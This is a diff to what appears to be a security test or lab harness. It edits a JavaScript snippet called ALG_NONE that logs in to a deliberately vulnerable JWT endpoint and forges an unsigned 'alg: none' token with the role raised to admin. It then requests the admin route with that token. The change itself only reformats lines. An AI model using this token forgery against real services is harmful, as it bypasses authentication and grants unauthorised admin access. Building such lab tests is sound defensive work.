@@ -9,8 +9,10 @@ ALG_NONE = """async () => {
   const b64 = (value) => btoa(JSON.stringify(value)).replace(/\\+/g, "-").replace(/\\//g, "_").replace(/=+$/, "");
   const root = location.pathname.match(/^\\/s\\/[^/]+/)[0];
   const signedIn = await fetch(`${root}/vulnerable/jwt/login`, { method: "POST",
-    headers: { "Content-Type": "application/json" }, body: JSON.stringify({ username: "bob", password: "thebuilder" }) });
-  const payload = JSON.parse(atob((await signedIn.json()).access_token.split(".")[1].replace(/-/g, "+").replace(/_/g, "/")));
+    headers: { "Content-Type": "application/json" },
+    body: JSON.stringify({ username: "bob", password: "thebuilder" }) });
+  const token = (await signedIn.json()).access_token;
+  const payload = JSON.parse(atob(token.split(".")[1].replace(/-/g, "+").replace(/_/g, "/")));
   const forged = `${b64({ alg: "none", typ: "JWT" })}.${b64({ ...payload, role: "admin" })}.`;
   return (await fetch(`${root}/vulnerable/jwt/admin`, { headers: { Authorization: `Bearer ${forged}` } })).status;
 }"""
